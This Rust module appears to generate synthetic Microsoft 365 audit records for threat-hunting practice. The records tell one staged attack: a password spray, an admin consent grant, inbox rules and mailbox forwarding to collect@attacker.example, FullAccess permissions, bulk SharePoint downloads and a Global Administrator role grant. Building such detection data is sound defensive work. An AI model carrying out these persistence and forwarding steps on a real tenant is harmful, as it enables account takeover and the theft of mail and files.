//! What a hunter would find in the week: one attack from its first attempt to the rules it leaves behind.
//!
//! A password spray from one address ends with one account opened; from there the attacker consents to an
//! application, adds forwarding rules and mailbox permissions, downloads files in bulk and adds a role.

use jiff::{SignedDuration, Timestamp};
use serde_json::json;

use super::population::{Population, User};
use super::record::Record;
use super::scene::Scene;
use super::{entra_directory, entra_signin, exchange_admin, sharepoint};
use crate::ContentType;
use ContentType::{AzureActiveDirectory, Exchange, SharePoint};

/// Where the attacker comes from.
const ATTACKER: &str = "198.51.100.66";

/// The files taken at most, and the accounts sprayed at most.
const DOWNLOADS: usize = 400;
const SPRAYED: usize = 180;

/// A record of a story.
#[derive(Debug)]
pub(super) struct Told {
    pub(super) content_type: ContentType,
    pub(super) at: Timestamp,
    pub(super) text: String,
}

struct Teller<'a> {
    seed: u64,
    organization: &'a str,
    population: &'a Population,
    told: Vec<Told>,
}

/// The stories of the week before `end`, in no more than `most` records; without room for them there are none.
pub(super) fn tell(
    seed: u64,
    most: usize,
    organization: &str,
    population: &Population,
    end: Timestamp,
) -> Vec<Told> {
    let mut teller = Teller {
        seed,
        organization,
        population,
        told: Vec::new(),
    };
    let start = end - SignedDuration::from_hours(4 * 24);
    let victim = &population.users[population.users.len() / 3];
    if most < 20 {
        return teller.told;
    }
    let each = (most - 10) / 2;
    teller.spray(start, victim, each.min(SPRAYED));
    teller.persist(start + SignedDuration::from_hours(3), victim);
    teller.download(
        start + SignedDuration::from_hours(5),
        victim,
        each.min(DOWNLOADS),
    );
    teller.told
}

impl Teller<'_> {
    fn spray(&mut self, start: Timestamp, victim: &User, attempts: usize) {
        let users = self
            .population
            .users
            .iter()
            .filter(|user| user.upn != victim.upn)
            .cycle()
            .take(attempts - 1);
        for (user, minute) in users.zip(0..) {
            let at = start + SignedDuration::from_secs(minute * 37);
            self.record(AzureActiveDirectory, at, |scene| {
                let failure = Some(("50126", "InvalidUserNameOrPassword"));
                entra_signin::attempt_from(scene, user, ATTACKER, failure)
            });
        }
        let at = start + SignedDuration::from_hours(2);
        self.record(AzureActiveDirectory, at, |scene| {
            entra_signin::attempt_from(scene, victim, ATTACKER, None)
        });
    }

    fn persist(&mut self, start: Timestamp, victim: &User) {
        let minute = |n| start + SignedDuration::from_mins(n);
        self.record(AzureActiveDirectory, minute(0), |scene| {
            consent(scene, victim)
        });
        self.record(AzureActiveDirectory, minute(9), |scene| role(scene, victim));
        let rules: [&[(&str, &str)]; 3] = [
            &[
                ("Name", "."),
                ("ForwardTo", "collect@attacker.example"),
                ("DeleteMessage", "True"),
            ],
            &[
                ("Name", ".."),
                ("SubjectContainsWords", "invoice;payment"),
                ("MoveToFolder", "RSS Feeds"),
                ("MarkAsRead", "True"),
            ],
            &[
                ("Name", "..."),
                ("RedirectTo", "collect@attacker.example"),
                ("StopProcessingRules", "True"),
            ],
        ];
        for (rule, n) in rules.into_iter().zip(20..) {
            self.record(Exchange, minute(n), |scene| {
                cmdlet(scene, victim, "New-InboxRule", rule)
            });
        }
        for (user, n) in self.population.users.iter().take(2).zip(30..) {
            let parameters = [
                ("Identity", user.upn.as_str()),
                ("User", &victim.upn),
                ("AccessRights", "FullAccess"),
            ];
            self.record(Exchange, minute(n), |scene| {
                cmdlet(scene, victim, "Add-MailboxPermission", &parameters)
            });
        }
        let forward = [
            ("Identity", victim.upn.as_str()),
            ("ForwardingSmtpAddress", "smtp:collect@attacker.example"),
        ];
        self.record(Exchange, minute(40), |scene| {
            cmdlet(scene, victim, "Set-Mailbox", &forward)
        });
    }

    fn download(&mut self, start: Timestamp, victim: &User, files: usize) {
        for n in (0..).take(files) {
            let at = start + SignedDuration::from_secs(n * 3);
            self.record(SharePoint, at, |scene| {
                sharepoint::file_by(scene, "FileDownloaded", victim).with("ClientIP", ATTACKER)
            });
        }
    }

    fn record(
        &mut self,
        content_type: ContentType,
        at: Timestamp,
        make: impl FnOnce(&mut Scene<'_>) -> Record,
    ) {
        // Far from the seeds of the other records, which are hashes.
        let seed = self
            .seed
            .rotate_left(32)
            .wrapping_add(self.told.len() as u64);
        let mut scene = Scene::new(seed, self.organization, self.population, at);
        let text = make(&mut scene).text();
        self.told.push(Told {
            content_type,
            at,
            text,
        });
    }
}

fn consent(scene: &mut Scene<'_>, victim: &User) -> Record {
    let scopes = "[[Id: 1, ClientId: 00000000-0000-0000-0000-000000000000, PrincipalId: , ResourceId: 2, \
                  ConsentType: AllPrincipals, Scope: Mail.ReadWrite offline_access Files.Read.All]] => [];";
    let properties = json!([
        {"Name": "ConsentContext.IsAdminConsent", "NewValue": "True", "OldValue": ""},
        {"Name": "ConsentAction.Permissions", "NewValue": scopes, "OldValue": ""},
        {"Name": "TargetId.ServicePrincipalNames", "NewValue": "bad0bad0-0000-4000-8000-000000000001", "OldValue": ""},
    ]);
    from_attacker(entra_directory::by_admin(
        scene,
        victim,
        "Consent to application.",
        "ApplicationManagement",
        properties,
        victim,
    ))
    .with("ObjectId", "bad0bad0-0000-4000-8000-000000000001")
}

fn role(scene: &mut Scene<'_>, victim: &User) -> Record {
    let properties = json!([
        {"Name": "Role.DisplayName", "NewValue": "\"Global Administrator\"", "OldValue": ""},
        {"Name": "Role.TemplateId", "NewValue": "\"62e90394-69f5-4237-9190-012177145e10\"", "OldValue": ""},
        {"Name": "Role.WellKnownObjectName", "NewValue": "\"TenantAdmins\"", "OldValue": ""},
    ]);
    let admin = scene.admin();
    from_attacker(entra_directory::by_admin(
        scene,
        admin,
        "Add member to role.",
        "RoleManagement",
        properties,
        victim,
    ))
}

fn cmdlet(
    scene: &mut Scene<'_>,
    victim: &User,
    operation: &str,
    parameters: &[(&str, &str)],
) -> Record {
    let port = scene.number(1024, 65_536);
    exchange_admin::by_user(scene, victim, operation, &victim.upn, parameters)
        .with("ResultStatus", "True")
        .with("ClientIP", format!("{ATTACKER}:{port}"))
}

fn from_attacker(record: Record) -> Record {
    record
        .with("ResultStatus", "Success")
        .with("ClientIP", ATTACKER)
        .with("ActorIpAddress", ATTACKER)
}
